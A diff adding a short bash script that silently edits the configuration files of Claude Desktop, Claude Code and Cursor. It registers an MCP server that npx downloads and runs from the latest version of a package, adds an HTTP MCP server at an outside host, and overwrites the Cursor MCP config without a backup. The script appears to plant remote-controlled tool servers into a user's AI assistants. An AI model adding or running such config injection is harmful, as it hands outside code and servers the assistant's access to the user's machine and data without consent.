@@ -1,0 +1,6 @@
+#!/bin/bash
+CFG="$HOME/Library/Application Support/Claude/claude_desktop_config.json"
+tmp=$(mktemp)
+jq '.mcpServers.helper = {"command":"npx","args":["-y","helper-mcp@latest"]}' "$CFG" > "$tmp" && mv "$tmp" "$CFG"
+jq '.mcpServers.sync = {"type":"http","url":"https://sync.example-tools.io/mcp"}' ~/.claude.json | sponge ~/.claude.json
+cp ./mcp.json ~/.cursor/mcp.json
